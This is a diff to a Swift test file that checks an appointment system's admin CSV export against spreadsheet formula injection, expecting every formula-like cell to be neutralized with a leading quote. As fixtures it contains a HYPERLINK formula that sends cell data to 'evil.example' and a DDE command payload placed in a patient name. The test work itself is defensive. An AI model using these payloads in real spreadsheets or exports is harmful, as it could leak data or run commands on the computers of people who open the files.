@@ -30,6 +30,22 @@ final class AdminExportTests: XCTestCase {
         "",
     ]
 
+    /// Reasons a spreadsheet would run as formulas (OWASP CSV injection).
+    static let formulas = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(1,2)",
+        "\tcmd",
+        "\r=1+2",
+    ]
+
+    /// What a spreadsheet must see for `text`: formulas behind a leading `'`.
+    static func neutralized(_ text: String) -> String {
+        guard let first = text.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return text }
+        return "'" + text
+    }
+
     static let box = Once<Fixture>()
 
     static func make() async throws -> Fixture {
@@ -41,6 +57,7 @@ final class AdminExportTests: XCTestCase {
         let cardio = try await data.doctor(firstName: "José", lastName: "Muñoz, Jr.", specialization: "Cardiology", fee: "50.00")
         let derma = try await data.doctor(lastName: "Smith", specialization: "Dermatology", fee: "40.00")
         let patient = try await h.createUser(email: "zoe.obrien@example.test", firstName: "Zoë \"Z\"", lastName: "O'Brien", patient: true)
+        let formulaPatient = try await h.createUser(email: "formula@example.test", firstName: "=cmd|' /C calc'!A0", lastName: "Evil", patient: true)
         let today = try await data.today()
         var ids: [String: Int64] = [:]
         for (i, reason) in tricky.enumerated() {
@@ -48,6 +65,10 @@ final class AdminExportTests: XCTestCase {
             let status = ["SCHEDULED", "COMPLETED", "CANCELLED"][i % 3]
             ids[reason] = try await data.appointment(doctor: doctor, patient: i % 2 == 0 ? patient : client, date: today.adding(days: i - 4),
                                                      time: "10:00", status: status, reason: reason)
+        }
+        for (i, reason) in formulas.enumerated() {
+            ids[reason] = try await data.appointment(doctor: i % 2 == 0 ? cardio : derma, patient: formulaPatient,
+                                                     date: today.adding(days: i - 4), time: "11:00", status: "SCHEDULED", reason: reason)
         }
         return Fixture(api: api, admin: admin, client: client, cardio: cardio, derma: derma, patient: patient, today: today, ids: ids)
     }
@@ -64,11 +85,16 @@ final class AdminExportTests: XCTestCase {
             with open(sys.argv[1], newline='', encoding='utf-8') as f:
                 rows = list(csv.reader(f, dialect='excel', strict=True))
             raw = open(sys.argv[1], 'rb').read()
-            # Every record ends with CRLF; no bare LF outside quoted fields is checked by re-encoding.
-            buf = __import__('io').StringIO(newline='')
-            w = csv.writer(buf, dialect='excel', lineterminator='\\r\\n')
-            w.writerows(rows)
-            print(json.dumps({"rows": rows, "roundtrip": buf.getvalue().encode('utf-8') == raw}))
+            # Every record ends with CRLF; no bare LF outside quoted fields is checked by re-encoding:
+            # minimal quoting, except that a neutralized formula ('=...) is always quoted.
+            def field(text):
+                if text == '': return ''  # the writer quotes a lone empty field; within a record it does not
+                buf = __import__('io').StringIO(newline='')
+                neutralized = len(text) > 1 and text[0] == "'" and text[1] in "=+-@\\t\\r"
+                csv.writer(buf, dialect='excel', lineterminator='\\r\\n', quoting=csv.QUOTE_ALL if neutralized else csv.QUOTE_MINIMAL).writerow([text])
+                return buf.getvalue()[:-2]
+            encoded = ''.join(','.join(field(f) for f in row) + '\\r\\n' for row in rows)
+            print(json.dumps({"rows": rows, "roundtrip": encoded.encode('utf-8') == raw}))
             """
         let p = Process()
         p.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
@@ -101,7 +127,7 @@ final class AdminExportTests: XCTestCase {
         XCTAssertTrue(csv.hasSuffix("\r\n"))
         let rows = try parseWithPython(csv)
         XCTAssertEqual(rows.first, AppointmentExport.header)
-        XCTAssertEqual(rows.count, Self.tricky.count + 1)
+        XCTAssertEqual(rows.count, Self.tricky.count + Self.formulas.count + 1)
         // Expected values from independent SQL.
         let expected = try await f.api.h.sql("""
             SELECT a.id, a.local_date::text AS d, to_char(a.local_time, 'HH24:MI') AS t, a.status, a.reason, d.specialization,
@@ -120,12 +146,15 @@ final class AdminExportTests: XCTestCase {
             XCTAssertEqual(row[4], try e.string("status"))
             XCTAssertEqual(row[5], try e.string("doctor"))
             XCTAssertEqual(row[6], try e.string("specialization"))
-            XCTAssertEqual(row[7], try e.string("patient"))
+            XCTAssertEqual(row[7], Self.neutralized(try e.string("patient")))
             XCTAssertEqual(row[8], try e.string("email"))
-            XCTAssertEqual(row[9], try e.string("reason"))
+            XCTAssertEqual(row[9], Self.neutralized(try e.string("reason")))
             XCTAssertNotNil(Instant(rfc3339: row[10]))
         }
-        XCTAssertEqual(Set(rows.dropFirst().map { $0[9] }), Set(Self.tricky))
+        XCTAssertEqual(Set(rows.dropFirst().map { $0[9] }), Set((Self.tricky + Self.formulas).map(Self.neutralized)))
+        XCTAssertTrue(rows.contains { $0[7] == "'=cmd|' /C calc'!A0 Evil" })
+        // No cell of the file starts a formula.
+        for row in rows { for cell in row { XCTAssertFalse("=+-@\t\r".contains(cell.first ?? "x"), "\(cell)") } }
         XCTAssertTrue(rows.contains { $0[5] == "José Muñoz, Jr." })
     }
 
